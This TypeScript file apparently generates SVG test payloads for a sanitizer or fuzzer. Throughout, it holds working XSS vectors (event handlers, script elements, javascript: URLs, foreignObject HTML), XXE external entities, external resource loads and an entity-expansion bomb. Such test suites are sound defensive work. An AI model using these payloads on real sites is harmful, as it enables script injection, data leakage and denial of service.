import { ADDRESSES } from './payloadAddresses.ts';
import { Dice, inQuotes, leak, run, type Part, type Payload } from './payloadParts.ts';

const NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"';

const svg = (name: string, text: Payload['text']): Payload => ({
  name: `svg ${name}`,
  form: 'svg',
  isOpen: false,
  text,
});

const drawing = (content: string, attributes = ''): string =>
  `<svg ${NAMESPACES} viewBox="0 0 90 90" ${attributes}>${content}</svg>`;

const SHAPES =
  'svg title desc defs marker g rect circle ellipse line path polyline polygon text tspan a use image switch'.split(
    ' ',
  );
const EVENTS =
  'load error click mouseover mousedown focus focusin begin end repeat activate wheel keydown animationstart copy'.split(
    ' ',
  );

const handlers = (dice: Dice): Payload[] =>
  SHAPES.flatMap((shape) =>
    dice
      .some(EVENTS, 8)
      .map((event) =>
        svg(`handler ${shape} ${event}`, (mark) =>
          drawing(
            `<${shape} tabindex="0" x="0" y="9" width="9" height="9" r="9" d="M0 0h9v9z" points="0,0 9,0 9,9" on${event}="${run(mark)}">x</${shape}>`,
          ),
        ),
      ),
  );

const html = (content: string): string =>
  `<foreignObject width="90" height="90"><div ${XHTML}>${content}</div></foreignObject>`;

/** What XML may hold besides shapes. */
const CONTENT: readonly Part[] = [
  ['script', (mark) => `<script>${run(mark)}</script>`],
  ['script-cdata', (mark) => `<script><![CDATA[${run(mark)}]]></script>`],
  ['script-prefixed', (mark) => `<s:script xmlns:s="http://www.w3.org/2000/svg">${run(mark)}</s:script>`],
  ['script-xhtml', (mark) => `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${run(mark)}</h:script>`],
  ['script-in-desc', (mark) => `<desc><script>${run(mark)}</script></desc>`],
  [
    'script-in-title',
    (mark) => `<title><h:script xmlns:h="http://www.w3.org/1999/xhtml">${run(mark)}</h:script></title>`,
  ],
  ['script-in-marker', (mark) => `<defs><marker id="m"><script>${run(mark)}</script></marker></defs>`],
  ['image-in-title', (mark) => `<title><img ${XHTML} src="x" onerror="${run(mark)}"/></title>`],
  ['image-in-text', (mark) => `<text><img ${XHTML} src="x" onerror="${run(mark)}"/></text>`],
  ['xhtml-title', (mark) => `<title ${XHTML} onclick="${run(mark)}">x</title>`],
  ['xhtml-text', (mark) => `<text ${XHTML} tabindex="0" onfocus="${run(mark)}">x</text>`],
  ['foreign-image', (mark) => html(`<img src="x" onerror="${run(mark)}"/>`)],
  ['foreign-focus', (mark) => html(`<input autofocus="" onfocus="${run(mark)}"/>`)],
  ['foreign-frame', (mark) => html(`<iframe srcdoc="&lt;script>${run(mark)}&lt;/script>"/>`)],
  ['foreign-details', (mark) => html(`<details open="" ontoggle="${run(mark)}">x</details>`)],
  ['foreign-refresh', (mark) => html(`<meta http-equiv="refresh" content="0;url=${leak(mark)}"/>`)],
  ['foreign-base', (mark) => html(`<base href="${leak(mark)}"/><img src="x"/>`)],
  ['foreign-link', (mark) => html(`<link rel="stylesheet" href="${leak(mark)}"/>`)],
  ['foreign-form', (mark) => html(`<form action="javascript:${run(mark)}"><button>x</button></form>`)],
  ['foreign-remote', (mark) => html(`<img src="${leak(mark)}"/>`)],
  ['foreign-object', (mark) => html(`<object data="${leak(mark)}"/>`)],
  ['style-import', (mark) => `<style>@import "${leak(mark)}";</style>`],
  ['style-url', (mark) => `<style>svg { background: url(${leak(mark)}); }</style>`],
  ['style-xhtml', (mark) => `<style ${XHTML}>@import "${leak(mark)}";</style>`],
  [
    'style-attribute',
    (mark) =>
      `<g style="background:url(${leak(mark)})"><rect width="9" height="9" style="fill:url(${leak(mark)}#x)"/></g>`,
  ],
  [
    'font',
    (mark) =>
      `<style>@font-face { font-family: q; src: url(${leak(mark)}); }</style><text font-family="q">x</text>`,
  ],
  [
    'set-handler',
    (mark) => `<rect width="9" height="9"><set attributeName="onclick" to="${run(mark)}"/></rect>`,
  ],
  [
    'animate-begin',
    (mark) =>
      `<rect width="9" height="9"><animate attributeName="x" dur="1s" onbegin="${run(mark)}"/></rect>`,
  ],
  [
    'animate-end',
    (mark) => `<rect width="9" height="9"><animate attributeName="x" dur="1ms" onend="${run(mark)}"/></rect>`,
  ],
  [
    'animate-transform',
    (mark) => `<animateTransform attributeName="transform" onbegin="${run(mark)}" dur="1ms"/>`,
  ],
  ['animate-motion', (mark) => `<g><animateMotion path="M0 0h9" dur="1ms" onbegin="${run(mark)}"/></g>`],
  [
    'animate-values',
    (mark) =>
      `<a><animate attributeName="href" values="javascript:${run(mark)}" begin="0s"/><text y="9">x</text></a>`,
  ],
  [
    'animate-xlink',
    (mark) =>
      `<a xlink:href="#"><animate attributeName="xlink:href" from="javascript:${run(mark)}" to="x"/><text y="9">x</text></a>`,
  ],
  [
    'handler-element',
    (mark) => `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run(mark)}</handler>`,
  ],
  [
    'stylesheet-transform',
    (mark) =>
      `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><iframe ${XHTML} src="javascript:${run(mark)}"/></xsl:template></xsl:stylesheet>`,
  ],
  [
    'use-data',
    (mark) =>
      `<use href="data:image/svg+xml,${encodeURIComponent(drawing(`<script>${run(mark)}</script>`, 'id="x"'))}#x"/>`,
  ],
  ['use-loop', (mark) => `<g id="loop-${mark}"><use href="#loop-${mark}"/><script>${run(mark)}</script></g>`],
  ['cdata-in-text', (mark) => `<text><![CDATA[<img src=x onerror=${run(mark)}>]]></text>`],
  ['comment', (mark) => `<!--><script>${run(mark)}</script>--><text>x</text>`],
  [
    'nested',
    (mark) => `<svg><svg><svg onload="${run(mark)}"><script>${run(mark)}</script></svg></svg></svg>`,
  ],
];

/** Documents that are more, or less, than an element. */
const DOCUMENTS: readonly Part[] = [
  ['root-load', (mark) => drawing('', `onload="${run(mark)}"`)],
  ['root-focus', (mark) => drawing('', `tabindex="0" autofocus="" onfocus="${run(mark)}"`)],
  ['root-style', (mark) => drawing('', `style="background:url(${leak(mark)})"`)],
  [
    'root-xhtml',
    (mark) => `<svg ${XHTML}><script>${run(mark)}</script><img src="x" onerror="${run(mark)}"/></svg>`,
  ],
  [
    'root-prefixed',
    (mark) => `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>${run(mark)}</s:script></s:svg>`,
  ],
  [
    'root-html',
    (mark) => `<html ${XHTML}><body onload="${run(mark)}"><script>${run(mark)}</script></body></html>`,
  ],
  [
    'root-math',
    (mark) =>
      `<math xmlns="http://www.w3.org/1998/Math/MathML"><mi href="javascript:${run(mark)}">x</mi></math>`,
  ],
  ['root-without-namespace', (mark) => `<svg onload="${run(mark)}"><script>${run(mark)}</script></svg>`],
  ['instruction-style', (mark) => `<?xml-stylesheet href="${leak(mark)}"?>${drawing('<text>x</text>')}`],
  [
    'instruction-script',
    (mark) => `<?xml-stylesheet type="text/xsl" href="javascript:${run(mark)}"?>${drawing('')}`,
  ],
  [
    'entity',
    (mark) =>
      `<!DOCTYPE svg [<!ENTITY e "<script xmlns='http://www.w3.org/2000/svg'>${run(mark)}</script>">]>${drawing('&e;')}`,
  ],
  ['entity-attribute', (mark) => `<!DOCTYPE svg [<!ENTITY e "${run(mark)}">]>${drawing('', 'onload="&e;"')}`],
  [
    'entity-outside',
    (mark) => `<!DOCTYPE svg [<!ENTITY e SYSTEM "${leak(mark)}">]>${drawing('<text>&e;</text>')}`,
  ],
  ['entity-parameter', (mark) => `<!DOCTYPE svg [<!ENTITY % e SYSTEM "${leak(mark)}"> %e;]>${drawing('')}`],
  [
    'entity-bomb',
    (mark) =>
      `<!DOCTYPE svg [<!ENTITY a "${'x'.repeat(50)}">${[...'bcdefgh'].map((name, at) => `<!ENTITY ${name} "${`&${'abcdefg'[at]};`.repeat(10)}">`).join('')}]>${drawing(`<text id="e${mark}">&h;</text>`)}`,
  ],
  [
    'attribute-default',
    (mark) => `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${run(mark)}">]>${drawing('')}`,
  ],
  ['document-type', (mark) => `<!DOCTYPE svg PUBLIC "x" "${leak(mark)}">${drawing('')}`],
  [
    'base',
    (mark) =>
      `<svg ${NAMESPACES} xml:base="${leak(mark)}"><image href="x" width="9" height="9"/><a href="x"><text y="9">x</text></a></svg>`,
  ],
  ['unclosed', (mark) => `<svg ${NAMESPACES} onload="${run(mark)}"><script>${run(mark)}</script><rect`],
  ['two-roots', (mark) => `${drawing('')}<script xmlns="http://www.w3.org/2000/svg">${run(mark)}</script>`],
  ['html-broken', (mark) => `</svg><img src=x onerror=${run(mark)}>`],
  ['deep', (mark) => drawing(`${'<g>'.repeat(200)}<script>${run(mark)}</script>${'</g>'.repeat(200)}`)],
  ['deeper', (mark) => drawing(`${'<g>'.repeat(20_000)}<text>${mark}</text>${'</g>'.repeat(20_000)}`)],
  ['null', (mark) => drawing(`\0<script>${run(mark)}</script>`)],
  ['bom', (mark) => `\ufeff${drawing('', `onload="${run(mark)}"`)}`],
  ['duplicate', (mark) => `<svg ${NAMESPACES} onload="" onload="${run(mark)}"/>`],
];

/** Elements and properties that lead or load somewhere. */
const SINKS: readonly (readonly [name: string, write: (address: string) => string])[] = [
  ['a', (address) => `<a href=${address}><text y="9">x</text></a>`],
  ['a-xlink', (address) => `<a xlink:href=${address}><text y="9">x</text></a>`],
  ['use', (address) => `<use xlink:href=${address}/>`],
  ['image', (address) => `<image href=${address} width="9" height="9"/>`],
  [
    'fe-image',
    (address) =>
      `<filter id="f"><feImage href=${address}/></filter><rect width="9" height="9" filter="url(#f)"/>`,
  ],
  ['script', (address) => `<script href=${address}/>`],
  ['text-path', (address) => `<text><textPath href=${address}>x</textPath></text>`],
  ['gradient', (address) => `<linearGradient href=${address}/>`],
  ['set', (address) => `<a><set attributeName="href" to=${address}/><text y="9">x</text></a>`],
];
const PROPERTIES = 'fill stroke filter mask clip-path marker-start marker-mid marker-end cursor'.split(' ');

function addresses(dice: Dice): Payload[] {
  const sinks = SINKS.flatMap(([sink, write]) =>
    dice
      .some(ADDRESSES, 12)
      .map(([address, text]) =>
        svg(`address ${sink} ${address}`, (mark) =>
          drawing(write(inQuotes(text(mark).replaceAll('<', '&lt;')))),
        ),
      ),
  );
  const properties = PROPERTIES.flatMap((property) => [
    svg(`property ${property}`, (mark) =>
      drawing(`<path d="M0 0L9 9L9 0" ${property}="url(${leak(mark)}#x)"/>`),
    ),
    svg(`property ${property} second`, (mark) =>
      drawing(`<path d="M0 0L9 9L9 0" ${property}="url(#x) url(${leak(mark)}#x)"/>`),
    ),
    svg(`property ${property} newline`, (mark) =>
      drawing(`<path d="M0 0L9 9L9 0" ${property}="url(#x)&#10;url(${leak(mark)}#x)"/>`),
    ),
  ]);
  return [...sinks, ...properties];
}

/** Drawings, which travel as text of their own. */
export const svgPayloads = (): readonly Payload[] => [
  ...handlers(new Dice(3)),
  ...CONTENT.map(([name, text]) => svg(`content ${name}`, (mark) => drawing(text(mark)))),
  ...DOCUMENTS.map(([name, text]) => svg(`document ${name}`, text)),
  ...addresses(new Dice(33)),
];
